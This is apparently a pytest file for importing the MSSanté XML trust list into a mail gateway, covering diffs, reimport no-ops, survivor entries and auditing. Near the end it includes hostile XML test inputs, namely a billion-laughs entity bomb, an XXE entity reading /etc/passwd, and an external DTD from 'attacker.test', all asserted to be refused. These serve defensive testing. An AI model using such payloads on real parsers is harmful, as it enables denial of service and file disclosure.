"""Importing the MSSanté trust list (liste blanche XML): preview, apply, no-op, survivors, hostile XML."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import func, select

from gateway.operations.trust_import import (
    NAMESPACE,
    TrustListError,
    apply_import,
    describe,
    parse_trust_list,
    plan_import,
    read_trust_list,
)
from gateway.store.models import AuditEntry, TrustedDomain
from gateway.testing.store import Store

FIXTURE = Path(__file__).parent / "data" / "listeblanche-3000.xml"
NOW = datetime(2024, 7, 1, tzinfo=UTC)


def _xml(*domains: tuple[str, str]) -> bytes:
    body = "".join(f"<Domaine><Nom>{n}</Nom><Description>{d}</Description>"
                   f"<DateMAJ>2024-05-01</DateMAJ></Domaine>" for n, d in domains)
    return (f'<ListeBlanche xmlns="{NAMESPACE}"><DateDeGeneration>2024-06-01</DateDeGeneration>'
            f"{body}</ListeBlanche>").encode()


def _import(store: Store, data: bytes) -> list[str]:
    new = parse_trust_list(data)
    with store.db.write() as session:
        plan = plan_import(session, new)
        lines = describe(plan)
        if not plan.empty:
            apply_import(session, new, plan, actor="admin:test", now=NOW, source="list.xml")
    return lines


def _domains(store: Store) -> dict[str, TrustedDomain]:
    with store.db.read() as session:
        return {d.name: d for d in session.execute(select(TrustedDomain)).scalars()}


def _audit_count(store: Store) -> int:
    with store.db.read() as session:
        return int(session.execute(select(func.count()).select_from(AuditEntry)).scalar_one())


def test_fixture_imports_then_reimport_is_a_noop(store: Store) -> None:
    new = read_trust_list(FIXTURE)
    assert len(new.entries) == 3000 and new.generated_at == datetime(2024, 6, 1, tzinfo=UTC)
    assert "xn--hpital-10-g7a.example" in new.entries  # hôpital-10.example, IDNA
    with store.db.write() as session:
        plan = plan_import(session, new)
        assert plan.counts() == {"added": 3000, "changed": 0, "removed": 0, "unchanged": 0}
        apply_import(session, new, plan, actor="admin:test", now=NOW, source=str(FIXTURE))
    domains = _domains(store)
    assert len(domains) == 3000
    entry = domains["xn--hpital-10-g7a.example"]
    assert entry.origin == "import" and entry.operator_dn == "CN=mx.operateur-10.test,O=Opérateur 10,C=FR"
    assert entry.list_updated_at == datetime(2024, 11, 11, 10, tzinfo=UTC)
    audits = _audit_count(store)
    with store.db.write() as session:
        again = plan_import(session, read_trust_list(FIXTURE))
    assert again.empty and again.unchanged == 3000 and _audit_count(store) == audits


def test_changes_field_by_field_removals_and_survivors(store: Store) -> None:
    _import(store, _xml(("a.example", "A"), ("b.example", "B"), ("gone.test", "G")))
    with store.db.write() as session:
        session.add(TrustedDomain(name="manual.example", origin="manual", dkim_policy="none", tls_required=True,
                                  status="active", created_at=NOW, modified_at=NOW))
        b = session.execute(select(TrustedDomain).where(TrustedDomain.name == "b.example")).scalar_one()
        b.route, b.status, b.tls_required, b.max_message_size = "127.0.0.1:2525", "suspended", False, 1000
        b.dkim_policy, b.dkim_selector = "none", "sel"
    lines = _import(store, _xml(("a.example", "A"), ("b.example", "B2"), ("new.example", "N")))
    assert "+ new.example  (N)" in lines and "- gone.test" in lines
    assert "~ b.example" in lines and "    description: 'B' -> 'B2'" in lines
    domains = _domains(store)
    assert set(domains) == {"a.example", "b.example", "new.example", "manual.example"}
    b2 = domains["b.example"]
    assert (b2.description, b2.route, b2.status, b2.tls_required, b2.max_message_size, b2.dkim_policy,
            b2.dkim_selector) == ("B2", "127.0.0.1:2525", "suspended", False, 1000, "none", "sel")
    assert domains["manual.example"].origin == "manual"
    with store.db.read() as session:
        last = session.execute(select(AuditEntry).order_by(AuditEntry.id.desc()).limit(1)).scalar_one()
    assert last.action == "domain.trust.import" and '"added":1' in last.details and '"removed":1' in last.details


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<ListeBlanche xmlns="https://listeblanche.mssante.fr/schema"><Domaine><Nom>x.example</Nom>
<Description>&lol3;</Description></Domaine></ListeBlanche>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ListeBlanche xmlns="https://listeblanche.mssante.fr/schema"><Domaine><Nom>x.example</Nom>
<Description>&xxe;</Description></Domaine></ListeBlanche>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ListeBlanche SYSTEM "http://attacker.test/evil.dtd">
<ListeBlanche xmlns="https://listeblanche.mssante.fr/schema"><Domaine><Nom>x.example</Nom></Domaine></ListeBlanche>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD],
                         ids=["billion-laughs", "external-entity", "external-dtd"])
def test_hostile_xml_is_refused(data: bytes) -> None:
    with pytest.raises(TrustListError, match="refused"):
        parse_trust_list(data)


def test_oversize_and_malformed_files_are_refused(tmp_path: Path) -> None:
    big = tmp_path / "big.xml"
    big.write_bytes(_xml(("a.example", "x" * 5000)))
    with pytest.raises(TrustListError, match="larger than the 1000-byte limit"):
        read_trust_list(big, max_bytes=1000)
    for data, problem in ((b"<ListeBlanche", "not well-formed"), (b"<other/>", "namespace"),
                          (_xml(), "no Domaine"), (_xml(("a.example", "A"), ("A.example", "B")), "appears twice"),
                          (_xml(("bad_name.example", "A")), "invalid domain")):
        with pytest.raises(TrustListError, match=problem):
            parse_trust_list(data)
